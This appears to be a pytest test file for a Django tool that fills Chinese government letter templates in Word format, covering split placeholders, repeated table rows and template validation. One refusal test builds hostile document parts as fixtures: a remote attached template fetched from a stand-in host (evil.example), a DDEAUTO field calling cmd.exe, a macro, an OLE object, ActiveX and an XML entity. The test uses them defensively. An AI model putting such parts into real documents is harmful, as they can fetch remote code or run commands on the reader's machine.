"""Letters from Word templates: placeholders however Word split them, rows repeated, and what is refused."""

import datetime as dt
import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from docx import Document as WordDocument
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Pt, RGBColor

from recommendations import desk, ledger
from recommendations.choices import LetterKind, Role
from recommendations.desk import filling
from recommendations.exceptions import Forbidden, Invalid
from recommendations.models import Letter, LetterTemplate
from tests.factories import AccountFactory, ActorFactory, DocumentFactory, RecommendationFactory, stamp

DAY = dt.date(2026, 11, 22)
VALUES = {
    "文种": "督办函",
    "文号": "督〔2026〕7号",
    "单位": "教育厅",
    "日期": "2026年11月22日",
    "正文": "请办理。",
    "件数": "2",
}
ROWS = [{"编号": "R000001", "建议": "设立基金"}, {"编号": "R000002", "建议": "完善体系"}]


def word(*parts: Callable[[Any], None]) -> bytes:
    document = WordDocument()
    for part in parts:
        part(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def line(*runs: str) -> Callable[[Any], None]:
    def add(document: Any) -> None:
        paragraph = document.add_paragraph()
        for text in runs:
            paragraph.add_run(text)

    return add


def row(*texts: str) -> Callable[[Any], None]:
    def add(document: Any) -> None:
        table = document.add_table(rows=2, cols=len(texts))
        for cell, text in zip(table.rows[1].cells, texts, strict=True):
            cell.text = text

    return add


def read(data: bytes) -> Any:
    return WordDocument(io.BytesIO(data))


def lines(data: bytes) -> list[str]:
    return [paragraph.text for paragraph in read(data).paragraphs]


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """The file with one part added or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for each in old.namelist():
            if each != name:
                new.writestr(each, old.read(each))
        new.writestr(name, content)
    return out.getvalue()


def refusal(data: bytes) -> str:
    with pytest.raises(Invalid) as refused:
        filling.check_template(data)
    return " ".join(str(message) for _field, message in refused.value.errors)


@pytest.mark.parametrize(
    "runs",
    [
        ["编号{{文号}}。"], ["编号{", "{文", "号}", "}。"], ["编", "号{{", "文号", "}}", "。"], ["编号{{ 文号 ", "}}。"],
        ["编号", "{{文号}}", "。"], ["编号{{文", "", "号}}。"],
    ],
)  # fmt: skip
def test_a_placeholder_is_found_however_word_split_it(runs: list[str]) -> None:
    assert lines(filling.fill(word(line(*runs)), VALUES, [])) == ["编号督〔2026〕7号。"]


def test_the_formatting_is_that_of_the_first_character() -> None:
    def coloured(document: Any) -> None:
        paragraph = document.add_paragraph()
        for text, size in (("致{", 10), ("{单", 22), ("位}}：", 10)):
            run = paragraph.add_run(text)
            run.font.size, run.font.color.rgb = Pt(size), RGBColor(size, 0, 0)

    (paragraph,) = read(filling.fill(word(coloured), VALUES, [])).paragraphs
    assert [(run.text, run.font.size.pt) for run in paragraph.runs] == [
        ("致教育厅", 10),
        ("", 22),
        ("：", 10),
    ]


def test_several_in_one_paragraph_in_headers_and_text_boxes() -> None:
    def boxed(document: Any) -> None:
        document.sections[0].header.paragraphs[0].text = "页眉{{文号}}"
        run = document.add_paragraph("外{{单位}}").add_run()
        box = OxmlElement("w:txbxContent")
        inner, piece, text = OxmlElement("w:p"), OxmlElement("w:r"), OxmlElement("w:t")
        text.text = "内{{日期}}"
        piece.append(text), inner.append(piece), box.append(inner), run._r.append(box)

    made = read(filling.fill(word(boxed, line("{{单位}}于{{日期}}，{{单位}}")), VALUES, []))
    assert made.sections[0].header.paragraphs[0].text == "页眉督〔2026〕7号"
    texts = [node.text for node in made.element.body.iter(qn("w:t")) if node.text]
    assert texts == ["外教育厅", "内2026年11月22日", "教育厅于2026年11月22日，教育厅"]


def test_a_row_is_repeated_for_each_recommendation_and_values_are_no_placeholders() -> None:
    template = word(row("{{编号}}", "{{建议}}（{{单位}}）"), line("共{{件数}}件"))
    rows = [*ROWS, {"编号": "{{文号}}", "建议": "x\x00\x0b\ud800y<&>"}]
    made = read(filling.fill(template, VALUES, rows))
    cells = [[cell.text for cell in each.cells] for each in made.tables[0].rows]
    assert cells == [
        ["", ""], ["R000001", "设立基金（教育厅）"], ["R000002", "完善体系（教育厅）"], ["{{文号}}", "xy<&>（教育厅）"],
    ]  # fmt: skip
    assert [each.text for each in made.paragraphs] == ["共2件"]
    assert len(read(filling.fill(template, VALUES, [])).tables[0].rows) == 1


def test_lines_become_paragraphs_of_the_same_form_or_line_breaks() -> None:
    def indented(document: Any) -> None:
        document.add_paragraph("{{正文}}").paragraph_format.first_line_indent = Pt(32)

    made = read(filling.fill(word(indented, line("附：{{正文}}")), VALUES | {"正文": "一\n二"}, []))
    assert [each.text for each in made.paragraphs] == ["一", "二", "附：一\n二"]
    assert [each.paragraph_format.first_line_indent for each in made.paragraphs[:2]] == [Pt(32)] * 2


def test_unknown_misplaced_and_broken_placeholders_are_named() -> None:
    said = refusal(word(line("{{文号}}{{领导}}{{编号}}"), line("{{未完"), row("{{编号}}", "{{序", "")))
    assert all(part in said for part in ("“领导”", "“编号”", "{{未完", "{{序")) and "“文号”" not in said
    filling.check_template(word(line("{{ 文号 }}"), row("{{编号}}")))


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/vbaProject.bin", b"macro"),
        ("word/embeddings/oleObject1.bin", b"object"),
        ("word/activeX/activeX1.xml", b"<x/>"),
        ("word/extra.xml", b'<!DOCTYPE x [<!ENTITY e "x">]><x>&e;</x>'),
        ("word/_rels/settings.xml.rels",
         (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
         b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
         b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>')),
        ("word/header9.xml",
         (b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:instrText>'
         b'DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p></w:hdr>')),
    ],
)  # fmt: skip
def test_what_runs_or_fetches_something_is_refused(part: str, content: bytes) -> None:
    assert refusal(with_part(word(line("{{文号}}")), part, content))


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"%PDF-1.4", b"\xd0\xcf\x11\xe0", word()[:500]])
def test_what_is_no_word_file_is_refused(data: bytes) -> None:
    assert refusal(data)


def test_a_file_too_large_is_refused() -> None:
    assert refusal(b"PK\x03\x04" + b"0" * filling.MAX_BYTES)


def test_the_built_in_form_is_a_template_without_a_fault() -> None:
    filling.check_template(desk.built_in())
    made = read(
        filling.fill(desk.built_in(), VALUES, [ROWS[0] | {"序号": "1", "期限": "—", "落实情况": "待评估"}])
    )
    assert [each.text for each in made.paragraphs if each.text][:4] == [
        "督办函",
        "督〔2026〕7号",
        "教育厅：",
        "请办理。",
    ]
    assert [cell.text for cell in made.tables[0].rows[1].cells] == ["1", "R000001", "设立基金", "—", "待评估"]


@pytest.mark.django_db
def test_letters_are_written_from_the_template_in_use() -> None:
    actor, helper = ActorFactory(name="教育厅"), ActorFactory(name="财政厅")
    document = DocumentFactory(title="来源")
    record = RecommendationFactory(document=document, quote="建议", due_on="2027-05")
    first = desk.keep_template(stamp(), "reminder", "旧", "a.docx", word(line("旧{{文号}}")))
    second = desk.keep_template(
        stamp(), "reminder", "新", "b.docx",
        word(line("{{单位}}{{日期}}{{正文}}"), row("{{序号}}", "{{来源文件}}", "{{期限}}", "{{落实情况}}", "{{原文}}")),
    )  # fmt: skip
    first.refresh_from_db()
    assert not first.in_use and LetterTemplate.objects.get(in_use=True) == second
    letter = desk.write_letter(stamp(), "reminder", "催〔2026〕1号", actor, [record], DAY, "请速办。")
    made = read(bytes(letter.file.content))
    assert made.paragraphs[0].text == "教育厅2026年11月22日请速办。"
    assert [cell.text for cell in made.tables[0].rows[1].cells] == [
        "1",
        "来源",
        "2027年5月",
        "待评估",
        "建议",
    ]
    other = desk.write_letter(stamp(), "supervision", "督〔2026〕1号", helper, [record], DAY)
    assert "督办函" in lines(bytes(other.file.content)), "the other kind still has the built-in form"
    desk.use_template(stamp(), first)
    assert lines(desk.draft_letter(LetterKind.REMINDER, "三号", actor, [record], DAY)) == ["旧三号"]
    desk.use_template(stamp(), first, used=False)
    assert "催办函" in lines(desk.draft_letter(LetterKind.REMINDER, "三号", actor, [record], DAY))
    assert Letter.objects.count() == 2 and ledger.verify().ok


@pytest.mark.django_db
def test_who_is_bound_to_actors_keeps_no_template_and_a_bad_one_leaves_no_trace() -> None:
    bound = AccountFactory(actors=[ActorFactory()])
    for account in (bound, AccountFactory(role=Role.VIEWER)):
        with pytest.raises(Forbidden):
            desk.keep_template(stamp(account), "reminder", "新", "b.docx", word(line("{{文号}}")))
    for kind, name, data in (("reminder", "新", b"x"), ("no", "新", word()), ("reminder", " ", word())):
        with pytest.raises(Invalid):
            desk.keep_template(stamp(), kind, name, "b.docx", data)
    assert not LetterTemplate.objects.exists()


def test_every_placeholder_is_documented() -> None:
    page = (Path(settings.BASE_DIR) / "docs" / "letters.md").read_text(encoding="utf-8")
    assert set(filling.PLACEHOLDER.findall(page)) == {*filling.LETTER, *filling.ROW}
